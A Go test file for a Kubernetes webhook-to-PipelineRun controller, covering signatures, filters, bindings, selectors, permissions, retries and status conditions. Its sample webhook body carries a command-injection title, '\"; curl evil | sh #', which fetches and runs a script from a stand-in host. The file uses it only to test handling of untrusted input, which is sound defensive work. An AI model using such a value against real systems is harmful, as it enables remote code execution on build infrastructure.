package listener

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"
	"sigs.k8s.io/controller-runtime/pkg/reconcile"
	"sigs.k8s.io/yaml"

	"github.com/slipway-dev/slipway/api/slipway/v1alpha1"
	v1 "github.com/slipway-dev/slipway/api/tekton/v1"
	triggersalpha "github.com/slipway-dev/slipway/api/triggers/v1alpha1"
	triggersv1 "github.com/slipway-dev/slipway/api/triggers/v1beta1"
	interceptors "github.com/slipway-dev/slipway/pkg/interceptor"
	"github.com/slipway-dev/slipway/pkg/kube"
	"github.com/slipway-dev/slipway/pkg/untrusted"
)

var epoch = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

// world is a cluster with the objects of the test, in the namespace team where they name
// none.
type world struct {
	*testing.T
	cluster client.Client
	*Reconciler
	now time.Time
	// did is what service accounts did; may says what they may besides creating in team.
	did []string
	may map[string]bool
	// failure is what creating says.
	failure error
	events  int
}

func newWorld(t *testing.T, manifests ...string) *world {
	t.Helper()
	scheme, err := kube.Scheme()
	if err != nil {
		t.Fatal(err)
	}
	w := &world{T: t, now: epoch, may: map[string]bool{}}
	objects := []client.Object{&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: "hook"}, Data: map[string][]byte{"token": []byte("s3cret")}}}
	for _, text := range manifests {
		objects = append(objects, objectOf(t, text))
	}
	w.cluster = fake.NewClientBuilder().WithScheme(scheme).WithStatusSubresource(&triggersv1.EventListener{}, &v1alpha1.ListenerEvent{}).
		WithIndex(&v1alpha1.ListenerEvent{}, kube.ListenerField, kube.ListenerOf).WithObjects(objects...).Build()
	w.Reconciler = New(Deps{Client: w.cluster, Live: w.cluster, As: w.as, Now: func() time.Time { return w.now }, Gateway: "gateway.system.svc.cluster.local", Domain: "cluster.local",
		World: interceptors.World{
			Secret: func(ctx context.Context, namespace, name string) (*corev1.Secret, error) {
				var s corev1.Secret
				return &s, w.cluster.Get(ctx, client.ObjectKey{Namespace: namespace, Name: name}, &s)
			},
			Interceptor: func(_ context.Context, name string) (*triggersalpha.ClusterInterceptor, error) {
				return nil, errors.New("the API server is away")
			},
		}})
	return w
}

var kinds = map[string]func() client.Object{
	"EventListener":         func() client.Object { return &triggersv1.EventListener{} },
	"Trigger":               func() client.Object { return &triggersv1.Trigger{} },
	"TriggerBinding":        func() client.Object { return &triggersv1.TriggerBinding{} },
	"ClusterTriggerBinding": func() client.Object { return &triggersv1.ClusterTriggerBinding{} },
	"TriggerTemplate":       func() client.Object { return &triggersv1.TriggerTemplate{} },
	"Service":               func() client.Object { return &corev1.Service{} },
	"ConfigMap":             func() client.Object { return &corev1.ConfigMap{} },
}

// objectOf reads KIND NAME {…}.
func objectOf(t *testing.T, text string) client.Object {
	t.Helper()
	kind, rest, _ := strings.Cut(text, " ")
	name, body, _ := strings.Cut(rest, " ")
	o := kinds[kind]()
	if err := yaml.UnmarshalStrict([]byte(body), o); err != nil {
		t.Fatalf("%v in %s", err, body)
	}
	namespace, own, found := strings.Cut(name, "/")
	if !found {
		namespace, own = "team", name
	}
	o.SetName(own)
	if kind != "ClusterTriggerBinding" {
		o.SetNamespace(namespace)
	}
	o.SetUID(types.UID("uid of " + own))
	return o
}

// as may create in the namespace of its account, and what the test says besides.
func (w *world) as(namespace, account string) (client.Client, error) {
	who := namespace + ":" + account
	return interceptor.NewClient(w.cluster.(client.WithWatch), interceptor.Funcs{
		Create: func(ctx context.Context, c client.WithWatch, o client.Object, options ...client.CreateOption) error {
			if review, ok := o.(*authorizationv1.SelfSubjectAccessReview); ok {
				a := review.Spec.ResourceAttributes
				review.Status.Allowed = w.may[fmt.Sprintf("%s %s %s/%s", who, a.Verb, a.Namespace, a.Name)]
				return nil
			}
			w.did = append(w.did, fmt.Sprintf("%s creates %s/%s", who, o.GetNamespace(), o.GetName()))
			if w.failure != nil {
				return w.failure
			}
			if o.GetNamespace() != namespace && !w.may[who+" create "+o.GetNamespace()] {
				return apierrors.NewForbidden(schema.GroupResource{Resource: "pipelineruns"}, o.GetName(), fmt.Errorf("%s may not", who))
			}
			return c.Create(ctx, o, options...)
		},
		List: func(ctx context.Context, c client.WithWatch, list client.ObjectList, options ...client.ListOption) error {
			var o client.ListOptions
			o.ApplyOptions(options)
			if !w.may[who+" list "+o.Namespace] {
				return apierrors.NewForbidden(schema.GroupResource{Resource: "triggers"}, "", fmt.Errorf("%s may not", who))
			}
			return c.List(ctx, list, options...)
		},
	}), nil
}

const body = `{"ref": "refs/heads/main", "title": "\"; curl evil | sh #", "head_commit": {"id": "0123456789"}}`

func signature(secret string) string {
	mac := hmac.New(sha256.New, []byte(secret))
	mac.Write([]byte(body))
	return "sha256=" + hex.EncodeToString(mac.Sum(nil))
}

// sends stores a request to the EventListener "listener", and works it off.
func (w *world) sends(header ...string) *v1alpha1.ListenerEvent {
	w.Helper()
	return w.settles(w.stores("listener", header...))
}

func (w *world) stores(listener string, header ...string) *v1alpha1.ListenerEvent {
	w.Helper()
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	if _, err := z.Write([]byte(body)); err != nil {
		w.Fatal(err)
	}
	if err := z.Close(); err != nil {
		w.Fatal(err)
	}
	w.events++
	e := &v1alpha1.ListenerEvent{ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: fmt.Sprintf("event-%d", w.events)},
		Spec: v1alpha1.ListenerEventSpec{Listener: listener, Received: metav1.NewMicroTime(w.now), URL: "/", Payload: packed.Bytes(), Headers: map[string][]string{}}}
	for i := 0; i < len(header); i += 2 {
		e.Spec.Headers[header[i]] = []string{header[i+1]}
	}
	if err := w.cluster.Create(w.Context(), e); err != nil {
		w.Fatal(err)
	}
	return e
}

func (w *world) settles(e *v1alpha1.ListenerEvent) *v1alpha1.ListenerEvent {
	w.Helper()
	if _, err := w.reconcileEvent(w.Context(), reconcile.Request{NamespacedName: client.ObjectKeyFromObject(e)}); err != nil {
		w.Fatal(err)
	}
	return w.event(e.Name)
}

func (w *world) event(name string) *v1alpha1.ListenerEvent {
	w.Helper()
	var e v1alpha1.ListenerEvent
	if err := w.cluster.Get(w.Context(), client.ObjectKey{Namespace: "team", Name: name}, &e); err != nil {
		w.Fatal(err)
	}
	return &e
}

func (w *world) runs() []v1.PipelineRun {
	w.Helper()
	var list v1.PipelineRunList
	if err := w.cluster.List(w.Context(), &list); err != nil {
		w.Fatal(err)
	}
	return list.Items
}

// wants compares what came of a request: its state, and what the message has.
func (w *world) wants(e *v1alpha1.ListenerEvent, state v1alpha1.EventState, message string) {
	w.Helper()
	if e.Status.State != state || !strings.Contains(e.Status.Message, message) || e.Status.Finished == nil {
		w.Errorf("%s %q, finished %v; want %s %q", e.Status.State, e.Status.Message, e.Status.Finished, state, message)
	}
}

const (
	template = `TriggerTemplate ci {spec: {params: [{name: sha}, {name: title, default: none}], resourcetemplates: [{apiVersion: tekton.dev/v1, kind: PipelineRun,
		metadata: {generateName: ci-}, spec: {pipelineRef: {name: ci}, params: [{name: sha, value: $(tt.params.sha)}, {name: title, value: $(tt.params.title)}]}}]}}`
	binding  = `TriggerBinding push {spec: {params: [{name: sha, value: $(extensions.short)}]}}`
	github   = `{ref: {name: github}, params: [{name: secretRef, value: {secretName: hook, secretKey: token}}, {name: eventTypes, value: [push]}]}`
	short    = `{ref: {name: cel}, params: [{name: filter, value: "body.ref == 'refs/heads/main'"}, {name: overlays, value: [{key: short, expression: body.head_commit.id.truncate(7)}]}]}`
	listener = `EventListener listener {spec: {serviceAccountName: sa, triggers: [{name: push, interceptors: [` + github + `, ` + short + `],
		bindings: [{ref: push}, {name: title, value: "T $(body.title)"}], template: {ref: ci}}]}}`
)

func TestRequestMakesARun(t *testing.T) {
	w := newWorld(t, listener, template, binding)
	e := w.sends("X-Github-Event", "push", "X-Hub-Signature-256", signature("s3cret"))
	w.wants(e, v1alpha1.EventDone, "made 1")
	runs := w.runs()
	if len(runs) != 1 {
		t.Fatalf("%d runs", len(runs))
	}
	run := runs[0]
	want := map[string]string{triggersv1.LabelEventListener: "listener", triggersv1.LabelTrigger: "push", triggersv1.LabelEventID: "event-1"}
	if diff := cmp.Diff(want, run.Labels); diff != "" {
		t.Error(diff)
	}
	if run.Spec.Params[0].Value.StringVal != "0123456" || run.Spec.Params[1].Value.StringVal != `T "; curl evil | sh #` || !untrusted.Of(run.Annotations).In(`"; curl evil | sh #`) {
		t.Errorf("%+v", run)
	}
	made := []v1alpha1.TriggerOutcome{{Name: "push", State: v1alpha1.EventDone, Resources: []string{"PipelineRun " + run.Name}}}
	if diff := cmp.Diff(made, e.Status.Triggers); diff != "" || !slices.Equal(w.did, []string{"team:sa creates team/" + run.Name}) {
		t.Error(diff, w.did)
	}
}

func TestNothingIsMade(t *testing.T) {
	signed := []string{"X-Github-Event", "push", "X-Hub-Signature-256", signature("s3cret")}
	for name, tc := range map[string]struct {
		manifests []string
		header    []string
		state     v1alpha1.EventState
		want      string
	}{
		"a wrong signature":  {[]string{listener, template, binding}, []string{"X-Github-Event", "push", "X-Hub-Signature-256", signature("guess")}, v1alpha1.EventFailed, "push: interceptors[0]: github: the signature does not fit the secret"},
		"no signature":       {[]string{listener, template, binding}, []string{"X-Github-Event", "push"}, v1alpha1.EventFailed, "there is no header X-Hub-Signature-256"},
		"another event":      {[]string{listener, template, binding}, []string{"X-Github-Event", "issues"}, v1alpha1.EventIgnored, `push: interceptors[0]: github: the event "issues"`},
		"a filter":           {[]string{strings.Replace(listener, "refs/heads/main", "refs/heads/other", 1), template, binding}, signed, v1alpha1.EventIgnored, "interceptors[1]: cel: params[filter] is not true"},
		"no binding":         {[]string{listener, template}, signed, v1alpha1.EventFailed, "bindings[0]: there is no TriggerBinding push"},
		"no cluster binding": {[]string{strings.Replace(listener, "ref: push", "ref: push, kind: ClusterTriggerBinding", 1), template}, signed, v1alpha1.EventFailed, "there is no ClusterTriggerBinding push"},
		"no template":        {[]string{listener, binding}, signed, v1alpha1.EventFailed, "template: there is no TriggerTemplate ci"},
		"no field":           {[]string{listener, template, strings.Replace(binding, "extensions.short", "body.none", 1)}, signed, v1alpha1.EventFailed, `bindings: param "sha": $(body.none): there is no "none"`},
		"no value":           {[]string{listener, template, strings.Replace(binding, "name: sha", "name: other", 1)}, signed, v1alpha1.EventFailed, `template: resourcetemplates[0]: spec.params.0.value: no binding gives param "sha"`},
		"no trigger":         {[]string{`EventListener listener {spec: {triggers: [{triggerRef: none}]}}`}, nil, v1alpha1.EventFailed, "none: there is no Trigger none"},
		"nothing selected":   {[]string{`EventListener listener {spec: {labelSelector: {matchLabels: {a: b}}}}`}, nil, v1alpha1.EventIgnored, "the EventListener has no trigger"},
		"another namespace": {[]string{listener, strings.Replace(template, "generateName: ci-", "name: a, namespace: kube-system", 1), binding}, signed, v1alpha1.EventFailed,
			"PipelineRun kube-system/a cannot be made"},
		"TLS": {[]string{`EventListener listener {spec: {triggers: [{triggerRef: none}], resources: {kubernetesResource: {spec: {template: {spec: {containers: [{env: [{name: TLS_KEY}]}]}}}}}}}`}, nil,
			v1alpha1.EventFailed, "TLS_CERT and TLS_KEY are not supported"},
		"namespaces that it may not see": {[]string{`EventListener listener {spec: {serviceAccountName: sa, namespaceSelector: {matchNames: [other]}}}`}, nil, v1alpha1.EventFailed,
			"selected triggers: namespaceSelector: service account sa may not list the triggers of namespace other"},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, tc.manifests...)
			w.wants(w.sends(tc.header...), tc.state, tc.want)
			if n := len(w.runs()); n != 0 {
				t.Errorf("%d runs", n)
			}
		})
	}
}

const (
	plain  = `resourcetemplates: [{apiVersion: tekton.dev/v1, kind: PipelineRun, metadata: {generateName: x-}, spec: {pipelineRef: {name: x}}}]`
	mine   = `Trigger mine {metadata: {labels: {kind: push}}, spec: {template: {spec: {` + plain + `}}}}`
	theirs = `Trigger other/theirs {metadata: {labels: {kind: push}}, spec: {template: {spec: {` + plain + `}}}}`
	named  = `Trigger other/named {metadata: {labels: {kind: push}}, spec: {serviceAccountName: deploy, template: {spec: {` + plain + `}}}}`
)

// names are the Triggers that made something.
func names(e *v1alpha1.ListenerEvent) (names []string) {
	for _, o := range e.Status.Triggers {
		names = append(names, fmt.Sprint(o.Name, " ", o.State))
	}
	return names
}

func TestSelectors(t *testing.T) {
	for name, tc := range map[string]struct {
		spec string
		may  []string
		want []string
	}{
		"by label":        {`labelSelector: {matchLabels: {kind: push}}`, nil, []string{"mine Done"}},
		"by other label":  {`labelSelector: {matchExpressions: [{key: kind, operator: NotIn, values: [push]}]}`, nil, nil},
		"by reference":    {`triggers: [{triggerRef: mine}]`, nil, []string{"mine Done"}},
		"here":            {`namespaceSelector: {matchNames: [team]}`, nil, []string{"mine Done"}},
		"there":           {`namespaceSelector: {matchNames: [other]}`, []string{"team:default list other", "team:default create other"}, []string{"other/named Failed", "other/theirs Done"}},
		"there, denied":   {`namespaceSelector: {matchNames: [other]}`, []string{"team:default list other"}, []string{"other/named Failed", "other/theirs Failed"}},
		"another account": {`namespaceSelector: {matchNames: [other]}`, []string{"team:default list other", "team:default impersonate other/deploy"}, []string{"other/named Done", "other/theirs Failed"}},
		"everywhere":      {`namespaceSelector: {matchNames: ["*"]}`, []string{"team:default list ", "team:default create other"}, []string{"other/named Failed", "other/theirs Done", "mine Done"}},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, `EventListener listener {spec: {`+tc.spec+`}}`, mine, theirs, named)
			for _, may := range tc.may {
				w.may[may] = true
			}
			e := w.sends()
			if diff := cmp.Diff(tc.want, names(e)); diff != "" {
				t.Error(diff, e.Status)
			}
		})
	}
}

// Interceptors of a group run once before its Triggers, which see what they added.
func TestGroups(t *testing.T) {
	trigger := `Trigger %s {metadata: {labels: {kind: push}}, spec: {bindings: [{name: sha, value: $(extensions.short)}], template: {ref: ci}}}`
	group := `EventListener listener {spec: {triggerGroups: [{name: main, interceptors: [` + short + `], triggerSelector: {labelSelector: {matchLabels: {kind: push}}}},
		{name: again, interceptors: [` + short + `], triggerSelector: {namespaceSelector: {matchNames: [team]}}},
		{name: never, interceptors: [{ref: {name: cel}, params: [{name: filter, value: "false"}]}], triggerSelector: {namespaceSelector: {matchNames: [team]}}}]}}`
	w := newWorld(t, group, template, fmt.Sprintf(trigger, "a"), fmt.Sprintf(trigger, "b"))
	e := w.sends()
	want := []string{"a Done", "b Done", "a Done", "b Done", "group never Ignored"}
	if diff := cmp.Diff(want, names(e)); diff != "" {
		t.Error(diff, e.Status)
	}
	for _, run := range w.runs() {
		if run.Spec.Params[0].Value.StringVal != "0123456" {
			t.Errorf("%+v", run.Spec.Params)
		}
	}
	if n := len(w.runs()); n != 4 {
		t.Errorf("%d runs of two Triggers in two groups", n)
	}
}

func TestServiceAccounts(t *testing.T) {
	w := newWorld(t, `EventListener listener {spec: {triggers: [{name: a, serviceAccountName: own, template: {spec: {`+plain+`}}}, {template: {spec: {`+plain+`}}}]}}`)
	e := w.sends()
	if diff := cmp.Diff([]string{"a Done", "triggers[1] Done"}, names(e)); diff != "" {
		t.Error(diff)
	}
	if len(w.did) != 2 || !strings.HasPrefix(w.did[0], "team:own creates") || !strings.HasPrefix(w.did[1], "team:default creates") {
		t.Error(w.did)
	}
}

// Whatever the world does meanwhile, a request makes its objects once.
func TestOnce(t *testing.T) {
	w := newWorld(t, listener, template, binding)
	e := w.stores("listener", "X-Github-Event", "push", "X-Hub-Signature-256", signature("s3cret"))
	w.failure = errors.New("the API server is away")
	if _, err := w.reconcileEvent(t.Context(), reconcile.Request{NamespacedName: client.ObjectKeyFromObject(e)}); err == nil {
		t.Error("it is not tried again")
	}
	if s := w.event(e.Name).Status; s.State != v1alpha1.EventWaiting || !strings.Contains(s.Message, "push: the API server is away") || s.Finished != nil {
		t.Errorf("%+v", s)
	}
	w.failure = nil
	w.wants(w.settles(e), v1alpha1.EventDone, "made 1")
	// The status was lost: it is worked off again.
	lost := w.event(e.Name)
	lost.Status = v1alpha1.ListenerEventStatus{}
	if err := w.cluster.Status().Update(t.Context(), lost); err != nil {
		t.Fatal(err)
	}
	w.wants(w.settles(e), v1alpha1.EventDone, "made 1")
	if n := len(w.runs()); n != 1 {
		t.Errorf("%d runs", n)
	}
}

// A name that the template gives may be somebody else's.
func TestNamesThatAreTaken(t *testing.T) {
	fixed := strings.Replace(template, "generateName: ci-", "name: fixed", 1)
	w := newWorld(t, strings.Replace(listener, github+", ", "", 1), fixed, binding)
	w.wants(w.sends(), v1alpha1.EventDone, "made 1")
	w.wants(w.sends(), v1alpha1.EventFailed, "PipelineRun fixed is there already: give the template generateName")
	first := w.event("event-1")
	first.Status = v1alpha1.ListenerEventStatus{}
	if err := w.cluster.Status().Update(t.Context(), first); err != nil {
		t.Fatal(err)
	}
	w.wants(w.settles(first), v1alpha1.EventDone, "made 1")
}

// What is never to be had is given up after a day.
func TestGivenUp(t *testing.T) {
	w := newWorld(t, `EventListener listener {spec: {triggers: [{name: a, interceptors: [{ref: {name: remote}}], template: {spec: {`+plain+`}}}]}}`)
	e := w.stores("listener")
	w.now = epoch.Add(maxAge + time.Minute)
	w.wants(w.settles(e), v1alpha1.EventFailed, "given up after a day: a: interceptors[0]: the API server is away")
}

// Of what is worked off little stays, and what strangers send pushes out nothing else.
func TestOldEventsGo(t *testing.T) {
	w := newWorld(t, `EventListener listener {spec: {triggers: [{name: a, interceptors: [{ref: {name: cel}, params: [{name: filter, value: "'X-Yes' in header"}]}], template: {spec: {`+plain+`}}}]}}`,
		`EventListener quiet {spec: {labelSelector: {matchLabels: {a: b}}}}`)
	first := w.sends("X-Yes", "")
	for range keepOther + 5 {
		w.now = w.now.Add(time.Second)
		w.sends()
	}
	waiting := w.stores("quiet")
	count := func() int {
		events, err := kube.RequestsOf(t.Context(), w.cluster, client.ObjectKey{Namespace: "team", Name: "listener"})
		if err != nil {
			t.Fatal(err)
		}
		return len(events)
	}
	if n := count(); n != keepOther+1 || w.event(first.Name).Status.State != v1alpha1.EventDone {
		t.Errorf("%d events stay", n)
	}
	w.now = w.now.Add(keepFor + time.Hour)
	for _, name := range []string{"listener", "quiet"} {
		if _, err := w.reconcileListener(t.Context(), reconcile.Request{NamespacedName: client.ObjectKey{Namespace: "team", Name: name}}); err != nil {
			t.Fatal(err)
		}
	}
	if n := count(); n != 0 || w.event(waiting.Name).Status.Finished != nil {
		t.Errorf("%d events stay a day after", n)
	}
}

// looks has the EventListener looked at, and returns it.
func (w *world) looks() *triggersv1.EventListener {
	w.Helper()
	key := client.ObjectKey{Namespace: "team", Name: "listener"}
	if res, err := w.reconcileListener(w.Context(), reconcile.Request{NamespacedName: key}); err != nil || res.RequeueAfter <= 0 {
		w.Fatalf("%+v, %v", res, err)
	}
	var el triggersv1.EventListener
	if err := w.cluster.Get(w.Context(), key, &el); err != nil {
		w.Fatal(err)
	}
	return &el
}

// conditions are TYPE STATUS: MESSAGE.
func conditions(el *triggersv1.EventListener) map[string]string {
	all := map[string]string{}
	for _, c := range el.Status.Conditions {
		all[c.Type] = strings.TrimSuffix(fmt.Sprint(c.Status, ": ", c.Message), ": ")
	}
	return all
}

func TestStatus(t *testing.T) {
	w := newWorld(t, listener)
	el := w.looks()
	if el.Status.Address.URL != "http://el-listener.team.svc.cluster.local:8080" || el.Status.Configuration.GeneratedResourceName != "el-listener" {
		t.Errorf("%+v", el.Status)
	}
	want := map[string]string{"Ready": "True", "Available": "True", "Service": "True", "Effective": "True"}
	if diff := cmp.Diff(want, conditions(el)); diff != "" {
		t.Error(diff)
	}
	var service corev1.Service
	key := client.ObjectKey{Namespace: "team", Name: "el-listener"}
	if err := w.cluster.Get(t.Context(), key, &service); err != nil || service.Spec.Type != corev1.ServiceTypeExternalName || service.Spec.ExternalName != "gateway.system.svc.cluster.local" ||
		service.Spec.Ports[0].Port != 8080 || !metav1.IsControlledBy(&service, el) {
		t.Errorf("%+v, %v", service, err)
	}
	// It comes back as it should be, and changes with the EventListener.
	el.Spec.Resources = &triggersv1.Resources{KubernetesResource: &triggersv1.KubernetesResource{ServicePort: new(int32(80))}}
	if err := w.cluster.Update(t.Context(), el); err != nil {
		t.Fatal(err)
	}
	if el = w.looks(); el.Status.Address.URL != "http://el-listener.team.svc.cluster.local:80" {
		t.Errorf("%+v", el.Status)
	}
	if err := w.cluster.Get(t.Context(), key, &service); err != nil || service.Spec.Ports[0].Port != 80 {
		t.Errorf("%+v, %v", service, err)
	}
}

func TestStatusNamesWhatIsNotSupported(t *testing.T) {
	for name, tc := range map[string]struct {
		manifests []string
		want      map[string]string
	}{
		"no deployment": {[]string{`EventListener listener {spec: {cloudEventURI: "http://x", triggers: [{triggerRef: a}], resources: {kubernetesResource: {replicas: 2, serviceType: LoadBalancer}}}}`},
			map[string]string{"Ready": "True", "Effective": "False: spec.cloudEventURI: no cloud events are sent"}},
		"interceptors": {[]string{`EventListener listener {spec: {triggers: [{name: a, interceptors: [{ref: {name: cel}, params: [{name: filter, value: "body.x =="}]}]}],
			triggerGroups: [{name: g, interceptors: [{ref: {name: github}, params: [{name: githubOwners, value: {enabled: true}}]}], triggerSelector: {labelSelector: {}}}]}}`},
			map[string]string{"Available": "True", "Ready": "False: spec.triggers[0].interceptors[0]: params[filter]: line 1"}},
		"TLS": {[]string{`EventListener listener {spec: {triggers: [{triggerRef: a}], resources: {kubernetesResource: {spec: {template: {spec: {containers: [{env: [{name: TLS_KEY}]}]}}}}}}}`},
			map[string]string{"Available": "False: spec.resources.kubernetesResource.spec.template.spec.containers[0].env: TLS_CERT", "Ready": "False: spec.resources"}},
		"a service of somebody": {[]string{listener, `Service el-listener {spec: {clusterIP: None}}`},
			map[string]string{"Service": "False: service el-listener is there already", "Available": "False: service el-listener", "Ready": "False: service"}},
	} {
		t.Run(name, func(t *testing.T) {
			got := conditions(newWorld(t, tc.manifests...).looks())
			for kind, want := range tc.want {
				if !strings.HasPrefix(got[kind], want) {
					t.Errorf("%s is %q, want %q", kind, got[kind], want)
				}
			}
		})
	}
}

// A status that does not change is not written.
func TestStatusIsWrittenOnce(t *testing.T) {
	w := newWorld(t, listener)
	first := w.looks()
	w.now = w.now.Add(time.Hour)
	if again := w.looks(); again.ResourceVersion != first.ResourceVersion || meta.FindStatusCondition(again.Status.Conditions, "Ready") == nil {
		t.Errorf("%+v", again.Status)
	}
}
